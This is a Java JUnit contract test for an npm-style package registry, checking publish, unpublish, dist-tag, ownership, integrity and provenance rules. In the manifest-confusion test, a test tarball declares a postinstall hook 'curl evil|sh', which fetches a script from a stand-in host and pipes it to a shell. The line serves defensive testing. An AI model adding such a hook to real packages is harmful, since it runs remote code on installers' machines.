package dev.hallmark.registry;

import static dev.hallmark.registry.RegistryFixture.publishBody;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.hallmark.core.json.Json;
import dev.hallmark.registry.RegistryException.Reason;
import dev.hallmark.registry.auth.Principal;
import dev.hallmark.registry.pkg.PackageName;
import dev.hallmark.registry.pkg.TestTarballs;
import dev.hallmark.registry.store.StoredPackage;
import dev.hallmark.registry.store.StoredVersion;
import dev.hallmark.core.npm.RegistrySignature;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The registry's rules, run on each store (subclasses name it). Each refusal is asserted by its reason. */
abstract class RegistryContract {
    @TempDir
    Path dir;
    RegistryFixture f;
    Principal alice;
    Principal bob;

    abstract String kind();

    @BeforeEach
    void open() throws Exception {
        f = RegistryFixture.open(kind(), dir);
        alice = f.user("alice");
        bob = f.user("bob");
    }

    @AfterEach
    void close() throws Exception {
        f.close();
    }

    static PackageName name(String n) throws Exception {
        return PackageName.parse(n);
    }

    StoredPackage pkg(String n) throws Exception {
        return f.registry.find(name(n)).orElseThrow();
    }

    Reason refusal(Callable<?> action) {
        try {
            action.call();
        } catch (RegistryException e) {
            return e.reason();
        } catch (Exception e) {
            throw new AssertionError("expected a RegistryException", e);
        }
        throw new AssertionError("expected a refusal");
    }

    @Test
    void publishStoresVersionTagTarballAndMaintainerTogether() throws Exception {
        byte[] tgz = TestTarballs.npmPackage("widget", "1.0.0");
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0", "latest", tgz));
        StoredPackage p = pkg("widget");
        assertThat(p.distTags()).containsExactly(Map.entry("latest", "1.0.0"));
        assertThat(p.maintainers()).extracting(m -> m.username()).containsExactly("alice");
        assertThat(p.liveVersions()).singleElement().satisfies(v -> {
            assertThat(v.tarballFile()).isEqualTo("widget-1.0.0.tgz");
            assertThat(v.publisher()).isEqualTo("alice");
            assertThat(v.fileCount()).isPositive();
        });
        assertThat(f.registry.tarball(name("widget"), "widget-1.0.0.tgz")).hasValueSatisfying(b -> assertThat(b).isEqualTo(tgz));
        ObjectNode stored = Json.parseObject(p.liveVersions().get(0).manifest().getBytes(), 1 << 20);
        assertThat(stored.has("dist")).isFalse();
        assertThat(stored.path("_npmUser").path("name").asText()).isEqualTo("alice");
        // dist.signatures: ECDSA P-256 over "<name>@<version>:<integrity>" with the registry key (npm.md §6)
        StoredVersion v = p.liveVersions().get(0);
        assertThat(v.signatures()).singleElement().satisfies(s -> {
            assertThat(s.keyid()).isEqualTo(RegistryFixture.KEYS.currentKeyid());
            try {
                RegistrySignature.verify("widget", "1.0.0", v.integrity(), s.keyid(), s.sig(),
                        RegistryFixture.KEYS.keys(), v.publishedAt());
            } catch (Exception e) {
                throw new AssertionError(e);
            }
        });
    }

    @Test
    void scopedPackagesUseTheUnscopedTarballName() throws Exception {
        f.registry.publish(alice, name("@acme/hello"), publishBody("@acme/hello", "1.0.0"));
        assertThat(f.registry.tarball(name("@acme/hello"), "hello-1.0.0.tgz")).isPresent();
    }

    @Test
    void versionsAreNeverReusedEvenAfterUnpublish() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.1"));
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"))))
                .isEqualTo(Reason.VERSION_EXISTS);
        ObjectNode edit = Json.object();
        edit.putObject("versions").putObject("1.0.1").put("name", "widget");
        f.registry.updateMetadata(alice, name("widget"), Optional.empty(), edit); // 1.0.0 left out: unpublished
        assertThat(pkg("widget").liveVersions()).extracting(v -> v.version()).containsExactly("1.0.1");
        assertThat(f.registry.tarball(name("widget"), "widget-1.0.0.tgz")).isEmpty();
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"))))
                .isEqualTo(Reason.VERSION_EXISTS);
    }

    @Test
    void unpublishMovesLatestToTheHighestReleaseLeft() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        f.registry.publish(alice, name("widget"), publishBody("widget", "2.0.0-rc.1", "next",
                TestTarballs.npmPackage("widget", "2.0.0-rc.1")));
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.1.0"));
        ObjectNode edit = Json.object();
        ObjectNode versions = edit.putObject("versions");
        versions.putObject("1.0.0");
        versions.putObject("2.0.0-rc.1");
        f.registry.updateMetadata(alice, name("widget"), Optional.empty(), edit);
        assertThat(pkg("widget").distTags()).containsEntry("latest", "1.0.0").containsEntry("next", "2.0.0-rc.1");
    }

    @Test
    void unpublishIsRefusedAfterTheWindow() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        f.advance(Duration.ofHours(73));
        StoredPackage p = pkg("widget");
        assertThat(refusal(() -> {
            f.registry.unpublishPackage(alice, name("widget"), Optional.of(Registry.revString("widget", p.rev())));
            return null;
        })).isEqualTo(Reason.UNPUBLISH_REFUSED);
        assertThat(f.registry.find(name("widget"))).isPresent();
    }

    @Test
    void aWholeUnpublishBlocksTheNameForADayThenFreesIt() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        f.registry.unpublishPackage(alice, name("widget"), Optional.empty());
        assertThat(f.registry.find(name("widget"))).isEmpty();
        assertThat(refusal(() -> f.registry.publish(bob, name("widget"), publishBody("widget", "2.0.0"))))
                .isEqualTo(Reason.NOT_PERMITTED);
        f.advance(Duration.ofHours(25));
        assertThat(refusal(() -> f.registry.publish(bob, name("widget"), publishBody("widget", "1.0.0"))))
                .isEqualTo(Reason.VERSION_EXISTS);
        f.registry.publish(bob, name("widget"), publishBody("widget", "2.0.0"));
        assertThat(pkg("widget").maintainers()).extracting(m -> m.username()).containsExactly("bob");
    }

    @Test
    void onlyMaintainersPublishAndOwnersCanBeAdded() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        assertThat(refusal(() -> f.registry.publish(bob, name("widget"), publishBody("widget", "1.0.1"))))
                .isEqualTo(Reason.NOT_PERMITTED);
        ObjectNode owners = Json.object();
        owners.putArray("maintainers").addObject().put("name", "alice");
        ((com.fasterxml.jackson.databind.node.ArrayNode) owners.get("maintainers")).addObject().put("name", "bob");
        f.registry.updateMetadata(alice, name("widget"), Optional.empty(), owners);
        f.registry.publish(bob, name("widget"), publishBody("widget", "1.0.1"));
        ObjectNode unknown = Json.object();
        unknown.putArray("maintainers").addObject().put("name", "mallory");
        assertThat(refusal(() -> {
            f.registry.updateMetadata(alice, name("widget"), Optional.empty(), unknown);
            return null;
        })).isEqualTo(Reason.NOT_FOUND);
    }

    @Test
    void aScopeBelongsToItsFirstPublisherAndToTheUserOfItsName() throws Exception {
        f.registry.publish(alice, name("@acme/a"), publishBody("@acme/a", "1.0.0"));
        assertThat(refusal(() -> f.registry.publish(bob, name("@acme/b"), publishBody("@acme/b", "1.0.0"))))
                .isEqualTo(Reason.NOT_PERMITTED);
        f.registry.publish(alice, name("@acme/b"), publishBody("@acme/b", "1.0.0"));
        f.registry.publish(bob, name("@bob/tool"), publishBody("@bob/tool", "1.0.0"));
        assertThat(refusal(() -> f.registry.publish(alice, name("@bob/x"), publishBody("@bob/x", "1.0.0"))))
                .isEqualTo(Reason.NOT_PERMITTED);
    }

    @Test
    void readOnlyAndPackageTokensAreLimited() throws Exception {
        Principal readonly = new Principal("alice", true, Optional.empty(), Optional.of("k"));
        assertThat(refusal(() -> f.registry.publish(readonly, name("widget"), publishBody("widget", "1.0.0"))))
                .isEqualTo(Reason.READ_ONLY_TOKEN);
        Principal onlyOther = new Principal("alice", false, Optional.of("other"), Optional.of("k"));
        assertThat(refusal(() -> f.registry.publish(onlyOther, name("widget"), publishBody("widget", "1.0.0"))))
                .isEqualTo(Reason.NOT_PERMITTED);
    }

    @Test
    void manifestConfusionIsRefused() throws Exception {
        byte[] tgz = TestTarballs.tgz(Map.of("package/package.json", TestTarballs.utf8(
                "{\"name\":\"widget\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl evil|sh\"}}")));
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0", "latest", tgz))))
                .isEqualTo(Reason.MANIFEST_MISMATCH);
        byte[] other = TestTarballs.npmPackage("gadget", "1.0.0");
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0", "latest", other))))
                .isEqualTo(Reason.MANIFEST_MISMATCH);
        assertThat(f.registry.find(name("widget"))).isEmpty();
    }

    @Test
    void integrityMustMatchTheAttachment() throws Exception {
        ObjectNode body = publishBody("widget", "1.0.0");
        ((ObjectNode) body.at("/versions/1.0.0/dist")).put("shasum", "0".repeat(40));
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), body))).isEqualTo(Reason.INTEGRITY_MISMATCH);
        ObjectNode badSri = publishBody("widget", "1.0.0");
        ((ObjectNode) badSri.at("/versions/1.0.0/dist")).put("integrity", "sha512-AAAA");
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), badSri))).isEqualTo(Reason.INTEGRITY_MISMATCH);
    }

    @Test
    void malformedPublishesChangeNothing() throws Exception {
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "1.0"))))
                .isEqualTo(Reason.INVALID_VERSION);
        ObjectNode noAttachment = publishBody("widget", "1.0.0");
        noAttachment.putObject("_attachments").putObject("other.tgz").put("data", "AA==");
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), noAttachment))).isEqualTo(Reason.INVALID_REQUEST);
        byte[] notGzip = "definitely not a tarball".getBytes();
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0", "latest", notGzip))))
                .isEqualTo(Reason.INVALID_TARBALL);
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0", "1.0.0",
                TestTarballs.npmPackage("widget", "1.0.0"))))).isEqualTo(Reason.INVALID_TAG);
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), publishBody("other", "1.0.0"))))
                .isEqualTo(Reason.INVALID_REQUEST);
        ObjectNode bundle = publishBody("widget", "1.0.0");
        ((ObjectNode) bundle.get("_attachments")).putObject("widget-1.0.0.sigstore").put("data", "{}");
        assertThat(refusal(() -> f.registry.publish(alice, name("widget"), bundle))).isEqualTo(Reason.PROVENANCE_INVALID);
        assertThat(f.registry.find(name("widget"))).isEmpty();
        assertThat(f.store.packageRev("widget")).isEmpty();
    }

    @Test
    void distTagsAndDeprecation() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.1.0"));
        f.registry.setDistTag(alice, name("widget"), "stable", "1.0.0");
        assertThat(f.registry.distTags(name("widget"))).containsEntry("stable", "1.0.0").containsEntry("latest", "1.1.0");
        assertThat(refusal(() -> {
            f.registry.setDistTag(alice, name("widget"), "canary", "9.9.9");
            return null;
        })).isEqualTo(Reason.NOT_FOUND);
        assertThat(refusal(() -> {
            f.registry.removeDistTag(alice, name("widget"), "latest");
            return null;
        })).isEqualTo(Reason.INVALID_TAG);
        assertThat(refusal(() -> {
            f.registry.setDistTag(bob, name("widget"), "evil", "1.0.0");
            return null;
        })).isEqualTo(Reason.NOT_PERMITTED);
        f.registry.removeDistTag(alice, name("widget"), "stable");
        assertThat(f.registry.distTags(name("widget"))).doesNotContainKey("stable");

        ObjectNode deprecate = Json.object();
        ObjectNode versions = deprecate.putObject("versions");
        versions.putObject("1.0.0").put("deprecated", "use 1.1");
        versions.putObject("1.1.0");
        f.registry.updateMetadata(alice, name("widget"), Optional.empty(), deprecate);
        assertThat(pkg("widget").version("1.0.0").orElseThrow().deprecated()).contains("use 1.1");
        assertThat(pkg("widget").version("1.1.0").orElseThrow().deprecated()).isEmpty();
    }

    @Test
    void aStaleRevisionIsAConflict() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        long rev = pkg("widget").rev();
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.1"));
        ObjectNode edit = Json.object();
        edit.putObject("versions").putObject("1.0.1");
        assertThat(refusal(() -> {
            f.registry.updateMetadata(alice, name("widget"), Optional.of(Registry.revString("widget", rev)), edit);
            return null;
        })).isEqualTo(Reason.CONFLICT);
        assertThat(pkg("widget").liveVersions()).hasSize(2);
    }

    @Test
    void aVerifiedProvenanceIsStoredAndServedWithTheVersion() throws Exception {
        var gate = new dev.hallmark.registry.provenance.ProvenanceVerifier(
                List.of(dev.hallmark.registry.provenance.PlaywrightVector.publicGoodVerifier()),
                dev.hallmark.registry.provenance.ProvenancePolicy.DEFAULT);
        try (RegistryFixture g = RegistryFixture.open(kind(), dir.resolve("with-provenance"), gate)) {
            Principal playwright = g.user("playwright");
            byte[] tgz = dev.hallmark.registry.provenance.PlaywrightVector.tarball();
            byte[] bundle = dev.hallmark.registry.provenance.PlaywrightVector.provenanceBundle();
            g.registry.publish(playwright, name("@playwright/cli"),
                    dev.hallmark.registry.provenance.PlaywrightVector.publishBody(tgz, bundle));
            StoredVersion v = g.registry.find(name("@playwright/cli")).orElseThrow().version("0.1.1").orElseThrow();
            assertThat(v.provenanceType()).contains("https://slsa.dev/provenance/v1");
            assertThat(g.registry.attestations(name("@playwright/cli"), "0.1.1")).singleElement().satisfies(a -> {
                assertThat(a.predicateType()).isEqualTo("https://slsa.dev/provenance/v1");
                assertThat(a.bundle()).isEqualTo(new String(bundle, java.nio.charset.StandardCharsets.UTF_8));
            });
        }
    }

    @Test
    void concurrentPublishesOfOnePackageAllLandOnceEach() throws Exception {
        f.registry.publish(alice, name("widget"), publishBody("widget", "1.0.0"));
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Future<?>> futures = new ArrayList<>();
            for (int i = 1; i <= 16; i++) {
                String version = "1.1." + i;
                futures.add(pool.submit(() -> f.registry.publish(alice, name("widget"), publishBody("widget", version))));
            }
            // and a race for one version: exactly one wins
            List<Future<?>> same = new ArrayList<>();
            for (int i = 0; i < 4; i++) {
                same.add(pool.submit(() -> f.registry.publish(alice, name("widget"), publishBody("widget", "2.0.0"))));
            }
            for (Future<?> future : futures) {
                future.get();
            }
            int won = 0;
            for (Future<?> future : same) {
                try {
                    future.get();
                    won++;
                } catch (java.util.concurrent.ExecutionException e) {
                    assertThat(((RegistryException) e.getCause()).reason()).isEqualTo(Reason.VERSION_EXISTS);
                }
            }
            assertThat(won).isEqualTo(1);
        } finally {
            pool.shutdown();
        }
        assertThat(pkg("widget").liveVersions()).hasSize(18);
    }
}
